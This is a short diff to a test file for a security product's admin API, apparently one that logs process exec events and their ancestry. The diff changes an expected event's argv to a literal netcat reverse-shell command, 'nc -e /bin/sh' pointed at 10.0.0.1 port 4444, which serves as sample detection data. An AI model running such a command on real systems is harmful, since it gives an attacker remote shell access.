@@ -220,7 +220,7 @@ describe("console admin API (SQLite)", () => {
 
     const detail = await c.app.inject({ method: "GET", url: `/api/admin/events/${e.enforcerId}/3`, headers: s.headers });
     expect(detail.statusCode).toBe(200);
-    expect(detail.json().event.argv).toEqual(execEvent().argv);
+    expect(detail.json().event.argv).toEqual(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]);
     expect(detail.json().ancestry.map((a: { event: { pid: number; exe: string } }) => [a.event.pid, a.event.exe])).toEqual([[7, "/bin/bash"], [1, "/bin/sh"]]);
     expect((await c.app.inject({ method: "GET", url: `/api/admin/events/${e.enforcerId}/99`, headers: s.headers })).statusCode).toBe(404);
   });
